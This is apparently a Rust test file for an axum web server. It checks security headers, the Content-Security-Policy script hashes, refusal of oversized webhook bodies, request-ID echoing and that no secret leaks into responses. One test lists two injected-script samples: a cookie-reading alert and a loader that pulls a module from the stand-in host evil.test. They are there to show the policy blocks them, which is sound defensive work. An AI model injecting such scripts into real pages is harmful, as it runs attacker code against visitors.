use crate::support::*;
use axum::body::Body;
use axum::http::{Request, StatusCode};

const FIXED: [(&str, &str); 4] = [
    (
        "strict-transport-security",
        "max-age=63072000; includeSubDomains",
    ),
    ("x-content-type-options", "nosniff"),
    ("referrer-policy", "strict-origin-when-cross-origin"),
    (
        "permissions-policy",
        "accelerometer=(), camera=(), geolocation=(), gyroscope=(), magnetometer=(), microphone=(), payment=(), usb=()",
    ),
];

#[tokio::test]
async fn every_kind_of_response_carries_the_security_headers() {
    let app = spawn_app();
    let requests = [
        Request::get("/").body(Body::empty()).unwrap(),
        Request::get("/nope").body(Body::empty()).unwrap(),
        Request::get("/insights/gone").body(Body::empty()).unwrap(),
        Request::get("/api/page?path=%2F")
            .body(Body::empty())
            .unwrap(),
        Request::get("/assets/index-Ab12Cd.js")
            .body(Body::empty())
            .unwrap(),
        Request::get("/assets/missing.js")
            .body(Body::empty())
            .unwrap(),
        Request::get("/favicon.ico").body(Body::empty()).unwrap(),
        Request::get("/sitemap.xml").body(Body::empty()).unwrap(),
        Request::get("/robots.txt").body(Body::empty()).unwrap(),
        Request::get("/healthz").body(Body::empty()).unwrap(),
        Request::post("/api/webhooks/contentful")
            .body(Body::empty())
            .unwrap(),
        Request::post("/api/webhooks/contentful")
            .header("content-length", (2 * 1024 * 1024).to_string())
            .body(Body::from(vec![b'x'; 2 * 1024 * 1024]))
            .unwrap(),
    ];
    for request in requests {
        let what = format!("{} {}", request.method(), request.uri());
        let response = app.send(request).await;
        for (name, value) in FIXED {
            assert_eq!(header(&response, name), value, "{what}");
        }
        let csp = header(&response, "content-security-policy");
        assert!(
            csp.contains(&format!("script-src {LOADER_HASH} 'strict-dynamic'")),
            "{what}: {csp}"
        );
        assert!(!csp.contains("nonce"), "{what}");
        assert!(csp.contains("'strict-dynamic'"), "{what}");
        assert!(csp.contains("frame-ancestors 'none'"), "{what}");
        assert!(csp.contains("object-src 'none'"), "{what}");
        assert!(csp.contains("base-uri 'self'"), "{what}");
        assert!(
            !csp.split("; ")
                .find(|d| d.starts_with("script-src"))
                .unwrap()
                .contains("unsafe-inline"),
            "{what}"
        );
        assert_eq!(header(&response, "x-frame-options"), "DENY");
        assert!(!header(&response, "x-request-id").is_empty(), "{what}");
    }
}

#[tokio::test]
async fn an_oversized_body_is_refused_with_413() {
    let app = spawn_app();
    let response = app
        .send(
            Request::post("/api/webhooks/contentful")
                .header("content-length", (2 * 1024 * 1024).to_string())
                .body(Body::from(vec![b'x'; 2 * 1024 * 1024]))
                .unwrap(),
        )
        .await;
    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
    // Refused by its declared length, before a byte is read, in the API's own words.
    assert_eq!(header(&response, "content-type"), "application/json");
    let body: serde_json::Value = serde_json::from_str(&body_text(response).await).unwrap();
    assert_eq!(body["message"], "the body is over 1 MiB");
}

/// The opening tags of `html`'s script elements, each with its text.
fn scripts(html: &str) -> Vec<(&str, &str)> {
    html.split("<script")
        .skip(1)
        .map(|rest| {
            let (tag, after) = rest.split_once('>').unwrap();
            (tag, after.split("</script>").next().unwrap())
        })
        .collect()
}

/// The policy's hash source for an inline script's text, computed here with the digest crates
/// themselves rather than the server's helper.
fn hash_source(text: &str) -> String {
    use base64::Engine;
    use sha2::Digest;
    let digest = sha2::Sha256::digest(text.as_bytes());
    format!(
        "'sha256-{}'",
        base64::engine::general_purpose::STANDARD.encode(digest)
    )
}

#[tokio::test]
async fn every_response_of_a_cached_page_is_the_same_and_its_policy_names_the_hash_of_each_script_that_runs()
 {
    let app = spawn_app();
    let mut seen = Vec::new();
    for _ in 0..2 {
        let response = app.get("/etender").await;
        let csp = header(&response, "content-security-policy").to_string();
        let script_src = csp
            .split("; ")
            .find(|d| d.starts_with("script-src"))
            .unwrap()
            .to_string();
        let html = body_text(response).await;
        let tags = scripts(&html);
        let (data, code): (Vec<_>, Vec<_>) = tags.iter().partition(|(tag, _)| {
            tag.contains("type=\"application/json\"") || tag.contains("ld+json")
        });
        assert!(!code.is_empty() && !data.is_empty(), "{tags:?}");
        // Each script that runs is the shell's inline loader, allowed by its text's hash: no
        // script is loaded from a file by the markup, none carries a nonce.
        for (tag, text) in &code {
            assert!(!tag.contains("src=") && !tag.contains("nonce"), "{tag}");
            assert_eq!(hash_source(text), LOADER_HASH);
            assert!(script_src.contains(&hash_source(text)), "{script_src}");
        }
        // The page data and JSON-LD are never run; CSP does not govern them.
        assert!(
            data.iter().all(|(tag, _)| !tag.contains("nonce")),
            "{data:?}"
        );
        assert!(!html.contains("nonce"));
        seen.push((csp, html));
    }
    // Nothing differs between two responses: what a shared cache keeps and hands to everyone
    // is exactly what each visitor would have been sent.
    assert_eq!(seen[0], seen[1]);
}

#[tokio::test]
async fn a_script_that_is_not_the_shells_own_has_no_hash_in_the_policy() {
    let app = spawn_app();
    let response = app.get("/etender").await;
    let csp = header(&response, "content-security-policy").to_string();
    // What an injection into a page would add: inline code, or the loader's text altered.
    for injected in [
        "alert(document.cookie)",
        "(()=>{const s=document.createElement(\"script\");s.type=\"module\";s.src=\"https://evil.test/x.js\";document.head.append(s)})()",
    ] {
        assert!(!csp.contains(&hash_source(injected)), "{csp}");
    }
    let script_src = csp
        .split("; ")
        .find(|d| d.starts_with("script-src"))
        .unwrap();
    assert!(!script_src.contains("unsafe-inline"), "{script_src}");
    assert_eq!(
        script_src.matches("'sha256-").count(),
        1,
        "the shell's one inline script and nothing else: {script_src}"
    );
}

#[tokio::test]
async fn a_client_request_id_is_kept_and_echoed() {
    let app = spawn_app();
    let response = app
        .send(
            Request::get("/healthz")
                .header("x-request-id", "abc-123")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert_eq!(header(&response, "x-request-id"), "abc-123");
}

#[tokio::test]
async fn no_secret_appears_in_any_response() {
    let app = spawn_app();
    for uri in [
        "/",
        "/readyz",
        "/healthz",
        "/api/page?path=%2F",
        "/sitemap.xml",
        "/robots.txt",
    ] {
        let response = app.get(uri).await;
        let headers = format!("{:?}", response.headers());
        let body = body_text(response).await;
        assert!(!body.contains(SECRET) && !headers.contains(SECRET), "{uri}");
    }
    let response = app
        .send(
            Request::post("/api/webhooks/contentful")
                .body(Body::empty())
                .unwrap(),
        )
        .await;
    assert!(!body_text(response).await.contains(SECRET));
}
